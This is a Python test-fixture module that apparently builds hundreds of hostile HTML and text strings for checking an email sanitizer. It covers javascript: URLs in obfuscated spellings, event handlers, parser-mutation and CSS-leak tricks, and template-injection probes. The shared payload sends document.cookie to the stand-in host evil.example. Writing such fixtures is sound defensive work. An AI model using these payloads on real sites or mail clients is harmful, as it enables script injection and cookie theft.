"""Pieces of HTML that try to run a script, to load something, or to lead a reader away.

They are put together from ways and payloads, so that each way is tried in several spellings.
What runs says so: it opens a dialog, asks for ``evil.example``, or posts ``pwned``.
"""

from __future__ import annotations

import base64
from collections.abc import Iterator
from functools import cache

__all__ = ["MARK", "hostile_pieces", "hostile_texts"]

MARK = "pwned"
"""An attribute and a name that only appear where a piece was taken for markup."""

_JS = "alert(1);top.postMessage('pwned','*');top.pwned=1;new Image().src='//evil.example/'+document.cookie"
_URLS = (
    f"javascript:{_JS}",
    f"JaVaScRiPt:{_JS}",
    f"  javascript:{_JS}",
    f"java\tscript:{_JS}",
    f"java&#10;script:{_JS}",
    f"&#106;avascript:{_JS}",
    f"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;{_JS}",
    f"javascript&colon;{_JS}",
    f"\x01javascript:{_JS}",
    "vbscript:msgbox(1)",
    f"data:text/html,<script>{_JS}</script>",
    "data:text/html;base64," + base64.b64encode(f"<script>{_JS}</script>".encode()).decode(),
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload=\"{_JS}\"/>",
    "https://evil.example/x",
    "//evil.example/x",
    "http:evil.example/x",
    "\\\\evil.example\\x",
    "blob:https://evil.example/1",
    "filesystem:https://evil.example/x",
    "view-source:https://evil.example/",
)
_WITH_URL = (
    '<a {m} href="{u}">x</a>',
    "<a {m} href='{u}' target=_top>x</a>",
    '<area {m} href="{u}">',
    '<iframe {m} src="{u}"></iframe>',
    '<embed {m} src="{u}">',
    '<object {m} data="{u}"></object>',
    '<form {m} action="{u}"><input type=submit></form>',
    '<button {m} formaction="{u}" form=f>x</button><form id=f></form>',
    '<img {m} src="{u}">',
    '<img {m} src=x srcset="{u} 1x, {u} 2x">',
    '<picture><source {m} srcset="{u}"><img src=x></picture>',
    '<video {m} poster="{u}" src="{u}" autoplay></video>',
    '<audio {m} src="{u}" autoplay></audio>',
    '<input {m} type=image src="{u}">',
    '<body {m} background="{u}">',
    '<table {m} background="{u}"><td background="{u}">x</table>',
    '<link {m} rel=stylesheet href="{u}">',
    '<link {m} rel=preload as=script href="{u}">',
    '<link {m} rel=prefetch href="{u}">',
    '<link {m} rel=icon href="{u}">',
    '<base {m} href="{u}"><a href=x>x</a><img src=y>',
    '<meta {m} http-equiv=refresh content="0;url={u}">',
    '<svg><a {m} xlink:href="{u}"><text y=20>x</text></a></svg>',
    '<svg><a {m} href="{u}"><text y=20>x</text></a></svg>',
    '<svg><image {m} href="{u}" xlink:href="{u}" width=9 height=9></image></svg>',
    '<svg><use {m} href="{u}#x"></use></svg>',
    '<svg><script {m} href="{u}"></script></svg>',
    '<svg><feImage {m} href="{u}"></feImage></svg>',
    '<svg><a><animate {m} attributeName=href values="{u}"/><text y=20>x</text></a></svg>',
    '<svg><a><set {m} attributeName=href to="{u}"/><text y=20>x</text></a></svg>',
    '<math {m} href="{u}"><mtext>x</mtext></math>',
    '<div {m} style="background:url({u})">x</div>',
    "<style>@import url('{u}'); .x {{ background: url(\"{u}\") }}</style><p {m} class=x>x",
    "<style>@import '{u}';</style><p {m}>x",
    "<style>@font-face {{ font-family: f; src: url({u}) }} p {{ font-family: f }}</style><p {m}>x",
    '<script {m} src="{u}"></script>',
    '<track {m} src="{u}">',
    '<a {m} ping="{u}" href="#x">x</a>',
    '<img {m} src=x attributionsrc="{u}">',
    '<frameset><frame {m} src="{u}"></frameset>',
    '<portal {m} src="{u}"></portal>',
    '<q {m} cite="{u}">x</q>',
)
_EVENTS = (
    "<img {m} src=x onerror={q}{j}{q}>",
    "<svg {m} onload={q}{j}{q}></svg>",
    "<body {m} onload={q}{j}{q}>",
    "<body {m} onpageshow={q}{j}{q}>",
    "<input {m} autofocus onfocus={q}{j}{q}>",
    "<details {m} open ontoggle={q}{j}{q}>x</details>",
    "<video {m} src=x onerror={q}{j}{q}></video>",
    "<audio {m} src=x onloadstart={q}{j}{q}></audio>",
    "<marquee {m} onstart={q}{j}{q}>x</marquee>",
    "<style>@keyframes a {{}}</style><p {m} style=animation-name:a onanimationstart={q}{j}{q}>x",
    "<iframe {m} onload={q}{j}{q}></iframe>",
    "<object {m} onerror={q}{j}{q} data=x></object>",
    "<svg><animate {m} onbegin={q}{j}{q} attributeName=x dur=1s></svg>",
    "<div {m} popover id=p ontoggle={q}{j}{q}></div><button popovertarget=p autofocus>x</button>",
    "<select {m} autofocus onfocus={q}{j}{q}></select>",
    "<img/{m}/src=x/onerror={q}{j}{q}>",
    "<img {m} src=x onerror\n=\n{q}{j}{q}>",
    "<IMG {m} SRC=x ONERROR={q}{j}{q}>",
    "<img {m} src=`x` onerror={q}{j}{q}>",
    "<x {m} onclick={q}{j}{q} tabindex=1 id=x>x</x>",
)
_MUTATIONS = (
    "<script {m}>{j}</script>",
    "<script {m} type=module>{j}</script>",
    "<scr<script>ipt {m}>{j}</scr</script>ipt>",
    "<svg><script {m}>{j}</script></svg>",
    '<noscript><p title="</noscript><img {m} src=x onerror={j}>"></noscript>',
    '<math><mtext><table><mglyph><style><!--</style><img {m} title="--&gt;&lt;img src=1 onerror={j}&gt;">',
    '<svg></p><style><a id="</style><img {m} src=1 onerror={j}>">',
    "<form><math><mtext></form><form><mglyph><style></math><img {m} src onerror={j}>",
    "<template><img {m} src=x onerror={j}></template>",
    "<div><template shadowrootmode=open><img {m} src=//evil.example/s><a href=https://evil.example/>x</a></template></div>",
    '<iframe {m} srcdoc="<script>{j}</script>"></iframe>',
    '<iframe {m} srcdoc="&lt;img src=x onerror={j}&gt;"></iframe>',
    "<!--><img {m} src=x onerror={j}>-->",
    "<!--[if gte IE 4]><script {m}>{j}</script><![endif]-->",
    "<![CDATA[<img {m} src=x onerror={j}>]]>",
    "<textarea><img {m} src=x onerror={j}></textarea><img {m} src=x onerror={j}>",
    "<title></title><img {m} src=x onerror={j}>",
    "<xmp><img {m} src=x onerror={j}></xmp>",
    "<plaintext><img {m} src=x onerror={j}>",
    '<style><img {m} src="</style><img src=x onerror={j}//">',
    "<select><option><img {m} src=x onerror={j}></select>",
    "<a {m} href=# style=x:expression({j})>x</a>",
    '<div {m} style="-moz-binding:url(//evil.example/x.xml#x);behavior:url(//evil.example/x.htc)">x',
    '<div {m} style="background:\\75rl(//evil.example/escaped)">x</div>',
    "<div {m} style=\"background:image-set('//evil.example/set' 1x)\">x</div>",
    "<div {m} style='content:url(//evil.example/content);cursor:url(//evil.example/cursor),auto;list-style:url(//evil.example/list)'>x</div>",
    "<style>input[value^=a] {{ background: url(//evil.example/leak) }}</style><input {m} value=abc>",
    "<style>p::before {{ content: url(//evil.example/before) }}</style><p {m}>x",
    "<svg><style>text {{ fill: url(//evil.example/fill#x) }}</style><text {m} y=9>x</text></svg>",
    '<svg><rect {m} filter="url(//evil.example/f#x)" fill="url(https://evil.example/g#x)" width=9 height=9 /></svg>',
    "<a {m} id=location name=location href=x>x</a><form name=cookie><input name=forms></form>",
    "<img name=currentScript {m}><img id=body name=getElementById>",
    '<meta {m} http-equiv=set-cookie content="a=b">',
    '<meta {m} http-equiv=content-security-policy content="script-src *">',
    "<meta {m} name=referrer content=unsafe-url><img src=//evil.example/ref>",
    "<meta {m} charset=utf-7>+ADw-script+AD4-{j}+ADw-/script+AD4-",
    "<object {m} type=text/x-scriptlet data=//evil.example/x></object>",
    "<applet {m} code=x archive=//evil.example/x.jar></applet>",
    "<isindex {m} action=javascript:{j}>",
    "<link {m} rel=dns-prefetch href=//evil.example><link rel=preconnect href=//evil.example>",
    "<html {m} manifest=//evil.example/m><p>x",
    "<base {m} target=_top><a href=https://evil.example/top>x</a>",
    "<input {m} type=text form=g><form id=g action=//evil.example/f method=post><input name=a autofocus></form>",
    "<dialog {m} open onclose={j}><form method=dialog><button autofocus>x</button></form></dialog>",
    "<svg><foreignObject><iframe {m} src=javascript:{j}></iframe></foreignObject></svg>",
    "<svg><desc><![CDATA[</desc><script {m}>{j}</script>]]></svg>",
    "<math><annotation-xml encoding=text/html><img {m} src=x onerror={j}></annotation-xml></math>",
)  # fmt: skip
_TEXTS = (
    "<script>{j}</script>",
    '"><img {m} src=x onerror={j}>',
    "'><img {m} src=x onerror={j}>",
    "' {m} onmouseover={j} x='",
    '" {m} autofocus onfocus={j} x="',
    "</title><img {m} src=x onerror={j}>",
    "</textarea><img {m} src=x onerror={j}>",
    "</script><script>{j}</script>",
    "--><img {m} src=x onerror={j}>",
    "{{{{ 7*7 }}}} {{% for x in y %}}",
    "{{{{ ''.__class__.__mro__ }}}}",
    "&lt;img {m} src=x onerror={j}&gt;",
    "javascript:{j}",
    "\u202egpj.exe <b {m}>x</b>",
    "\x00<img {m} src=x onerror={j}>",
    "<svg {m} onload={j}>",
    "${{7*7}} #{{7*7}} <%= 7*7 %>",
    "]]><img {m} src=x onerror={j}>",
    "+ADw-script {m}+AD4-",
    "<img {m}\nsrc=x\nonerror={j}>",
)


def _pieces() -> Iterator[str]:
    for form in _WITH_URL:
        for url in _URLS[::3] if "href" not in form else _URLS:
            quoted = url.replace('"', "&quot;").replace("'", "&#39;")
            yield form.format(u=quoted, m=MARK)
    for form in _EVENTS:
        for quote in ('"', "'", ""):
            yield form.format(j=_JS.replace("'", "`"), q=quote, m=MARK)
    for form in _MUTATIONS:
        yield form.format(j="alert(1)", m=MARK)


@cache
def hostile_pieces() -> tuple[str, ...]:
    """Return pieces of HTML as a mail may hold them."""
    return tuple(dict.fromkeys(_pieces()))


@cache
def hostile_texts() -> tuple[str, ...]:
    """Return texts as a subject, a name or a file name may be."""
    return tuple(form.format(j="alert(1)", m=MARK) for form in _TEXTS)
